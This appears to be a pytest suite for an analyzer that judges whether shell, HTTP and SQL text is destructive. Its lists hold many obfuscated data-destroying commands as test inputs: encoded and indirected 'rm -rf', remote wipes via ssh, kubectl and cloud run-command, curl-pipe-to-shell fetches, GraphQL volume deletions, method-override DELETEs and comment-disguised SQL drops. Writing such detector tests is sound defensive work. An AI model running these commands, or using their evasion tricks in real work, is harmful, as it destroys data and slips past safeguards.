"""Ways around a parser: each must be told as what it does, or as unknown, and never as a read."""

from __future__ import annotations

import base64
import json

import pytest

from analyzer.effects import Spoken, is_destructive, judge_text
from analyzer.model import Effect

RM = base64.b64encode(b"rm -rf /srv/data").decode()
DROP = 'mutation { volumeDelete(volumeId: "1") }'

SHELL = [
    "bash -c 'rm -rf /srv'",
    "sh -c \"bash -c 'rm -rf /srv'\"",
    "eval \"rm -rf /srv\"",
    "x=rm; $x -rf /srv",
    "x='rm -rf'; $x /srv",
    "a=(rm -rf /srv); \"${a[@]}\"",
    "r''m -rf /srv",
    "\\rm -rf /srv",
    "$'\\x72m' -rf /srv",
    "{rm,-rf,/srv}",
    "rm${IFS}-rf${IFS}/srv",
    "$(echo rm) -rf /srv",
    "`echo rm` -rf /srv",
    f"echo {RM} | base64 -d | sh",
    f"bash <<< $(echo {RM} | base64 --decode)",
    "echo 'rm -rf /srv' | bash",
    "printf 'rm -rf %s' /srv | sh",
    "bash <<'EOF'\nrm -rf /srv\nEOF",
    "echo vrs/ fr- mr | rev | sh",
    "f() { rm -rf \"$1\"; }; f /srv",
    "for d in /srv /var/lib; do rm -rf $d; done",
    "find /srv -type f -exec rm -f {} +",
    "find /srv -delete",
    "ls /srv | xargs rm -rf",
    "ls /srv | xargs -I{} sh -c 'rm -rf {}'",
    "sudo -u root env A=1 nice -n 5 rm -rf /srv",
    "ssh prod-db 'sudo rm -rf /var/lib/postgresql'",
    "docker exec -it db psql -U postgres -c 'DROP DATABASE app'",
    "docker compose exec -T db sh -c 'psql -c \"drop table x\"'",
    "kubectl exec -n prod db-0 -c pg -- psql -c 'TRUNCATE users'",
    "true && { rm -rf /srv; } || true",
    "if true; then rm -rf /srv; fi",
    "cat <(rm -rf /srv)",
    "echo $(rm -rf /srv)",
    "trap 'rm -rf /srv' EXIT",
    "timeout 5 rm -rf /srv",
    "python3 -c \"import shutil as s; s.rmtree('/srv')\"",
    "python3 -c \"import os; getattr(os, 'system')('rm -rf /srv')\"",
    f"python3 -c \"import os,base64; os.system(base64.b64decode('{RM}').decode())\"",
    "python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['rm', '-rf', '/srv'])\nEOF",
    "node -e \"require('child_process').execSync('rm -rf /srv')\"",
    "perl -e 'system(\"rm -rf /srv\")'",
    "git -c alias.x='!rm -rf /srv' x",
    "busybox rm -rf /srv",
    "alias ll='rm -rf'; ll /srv",
    "yarn prisma migrate reset --force",
    "ansible web -a 'rm -rf /srv'",
    "x=$(echo cm0gLXJmIC9zcnY= | base64 -d); eval $x",
    "while read f; do rm -f $f; done < list.txt",
    "su -c 'rm -rf /srv'",
    "env -S 'rm -rf /srv'",
    "su - postgres -c 'dropdb app'",
    "set -- rm -rf /srv; \"$@\"",
    "/bin/r? -rf /srv",
    "screen -dmS x bash -c 'rm -rf /srv'",
    "tmux new-session -d -s x 'rm -rf /srv'",
    "cat < /dev/null > app.db",
    "flask shell <<< 'db.drop_all()'",
    "python manage.py shell <<< 'User.objects.all().delete()'",
    "az vm run-command invoke -g g -n v --command-id RunShellScript --scripts 'rm -rf /srv'",
    "aws ssm send-command --instance-ids i --parameters commands='rm -rf /srv'",
    "curl -G https://api.acme.dev/graphql --data-urlencode 'query=mutation{deleteProject(id:1){ok}}'",
    "powershell -EncodedCommand "
    + base64.b64encode("Remove-Item -Recurse -Force C:\\data".encode("utf-16-le")).decode(),
    "cmd /c \"rd /s /q C:\\data\"",
    "curl -X POST https://api.example.com/v1/users/5 -H 'X-HTTP-Method-Override: DELETE'",
    f"curl https://backboard.railway.app/graphql/v2 -d '{json.dumps({'query': DROP})}'",
]  # fmt: skip


@pytest.mark.parametrize("text", SHELL)
def test_a_shell_text_is_followed_into_what_it_runs(text: str) -> None:
    judgement = judge_text(Spoken.SHELL, text)
    assert is_destructive(judgement) is True, judgement


HIDDEN = [
    "curl https://x.example/install.sh | sh",
    "bash <(curl -s https://x.example/i.sh)",
    "eval \"$(curl -s https://x.example)\"",
    "$CMD -rf /srv",
    "$(cat cmd.txt)",
    "source ./cleanup.sh",
    "bash cleanup.sh",
    "python3 cleanup.py",
    "psql -f drop.sql",
    "mysql app < dump.sql",
    "make destroy",
    "python3 -c 'import mylib; mylib.go()'",
    "node -e 'mylib.go()'",
    "terraform apply -auto-approve",
    "curl -X POST https://api.example.com/graphql -d @query.json",
    "aws lambda invoke --function-name wipe out.json",
    "some-new-tool frobnicate prod",
    "bash -c \"$X\"",
    "echo 'unterminated",
]  # fmt: skip


@pytest.mark.parametrize("text", HIDDEN)
def test_what_cannot_be_read_is_unknown_and_says_why(text: str) -> None:
    judgement = judge_text(Spoken.SHELL, text)
    assert judgement.effect is Effect.UNKNOWN, judgement
    assert judgement.reasons


VARIED = "mutation D($v: String!) { volumeDelete(volumeId: $v) }"


def graphql(query: str, **more: object) -> str:
    return json.dumps({"query": query, **more})


URL = "https://backboard.railway.com/graphql/v2"
REQUESTS = [
    f"POST {URL}\n\n{graphql(DROP)}",
    f"GET {URL}?query=mutation%7BvolumeDelete(volumeId%3A%221%22)%7D",
    f"HEAD {URL}?query=mutation%7BvolumeDelete(volumeId%3A%221%22)%7D",
    f"GET {URL}?query=%6Dutation%7BvolumeDelete(volumeId%3A%221%22)%7D",
    f"POST {URL}\n\n" + graphql("mutation { ok: volumeDelete(volumeId: \"1\") }"),
    f"POST {URL}\n\n" + graphql("mutation { ...F } fragment F on M { volumeDelete(volumeId: \"1\") }"),
    f"POST {URL}\n\n[{graphql('{ me { id } }')}, {graphql(DROP)}]",
    f"POST {URL}\n\n" + '{"\\u0071uery": "mutation { volumeDelete(volumeId: \\"1\\") }"}',
    f"POST {URL}\n\n" + graphql(VARIED, variables={"v": "1"}),
    "POST https://api.example.com/v1/users/5?_method=DELETE",
    "POST https://api.example.com/v1/users/5\nContent-Type: application/x-www-form-urlencoded\n\n_method=DELETE",
    "POST https://api.example.com/v1/users/5\nX-HTTP-Method-Override: DELETE",
    "DELETE https://api.example.com//v1//users/5",
    "DELETE https://api.example.com/v1/users/5.json",
    "DELETE https://api.example.com/v1/%75sers/5",
    "POST https://api.example.com/v1/users/5/destroy.json",
    "POST https://db.example.com/query\n\n{\"sql\": \"/**/DROP/**/TABLE users\"}",
]  # fmt: skip


@pytest.mark.parametrize("text", REQUESTS)
def test_a_request_is_read_as_its_server_reads_it(text: str) -> None:
    judgement = judge_text(Spoken.HTTP, text)
    assert is_destructive(judgement) is True, judgement


UNREADABLE = [
    f"POST {URL}\n\n" + json.dumps({"extensions": {"persistedQuery": {"sha256Hash": "ab"}}}),
    f"POST {URL}\n\n" + '{"query": "{ me { id } }", "Query": "mutation { volumeDelete(volumeId: \\"1\\") }"}',
    f"POST {URL}\nContent-Type: multipart/form-data; boundary=x\n\n--x\r\n\r\n{graphql(DROP)}",
    f"POST {URL}\n\n" + graphql("mutation { volumeDelete(volumeId: \"1\") "),
    "POST https://api.example.com/v1/things",
]  # fmt: skip


@pytest.mark.parametrize("text", UNREADABLE)
def test_a_request_that_cannot_be_read_is_unknown(text: str) -> None:
    assert judge_text(Spoken.HTTP, text).effect is Effect.UNKNOWN


SQL = [
    "CREATE FUNCTION f() RETURNS void AS $$ BEGIN TRUNCATE users; END $$ LANGUAGE plpgsql; SELECT f()",
    "CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM users'; CALL p()",
    "SELECT 1; DROP TABLE users; --",
    "dElEtE/**/FROM/**/users",
    "/*!50000 DROP TABLE users */",
    "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
    "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
    "EXECUTE IMMEDIATE 'TRUNCATE TABLE users'",
    "EXEC('DROP TABLE users')",
    "EXPLAIN ANALYZE DELETE FROM users",
    "UPDATE accounts SET balance = 0 WHERE 1=1",
    "-- harmless\nTRUNCATE users",
]  # fmt: skip


@pytest.mark.parametrize("text", SQL)
def test_sql_is_read_by_its_tokens(text: str) -> None:
    assert is_destructive(judge_text(Spoken.SQL, text)) is True


QUIET = [
    "echo 'rm -rf /'", "git commit -m 'rm -rf /'", "grep -rn 'DROP TABLE' .", "man rm",
    "cat <<'EOF'\nrm -rf /\nEOF", "terraform plan -destroy", "gcloud compute instances list",
    "git push --force-with-lease", "prisma migrate deploy", "supabase migration up",
    "docker compose down", "rsync -avn --delete a/ b/", "aws s3 rm s3://b --recursive --dryrun",
    "psql -c \"select 'drop table x'\"", "psql -c 'EXPLAIN DELETE FROM users'", "kubectl get pods",
    "VAR='rm -rf /'; echo \"$VAR\"", "command -v rm", "xargs -n1 echo < files.txt",
    "curl -d @- https://example.com <<EOF\nrm -rf /\nEOF",
]  # fmt: skip


@pytest.mark.parametrize("text", QUIET)
def test_words_that_are_not_run_and_dry_runs_stay_quiet(text: str) -> None:
    assert is_destructive(judge_text(Spoken.SHELL, text)) is not True
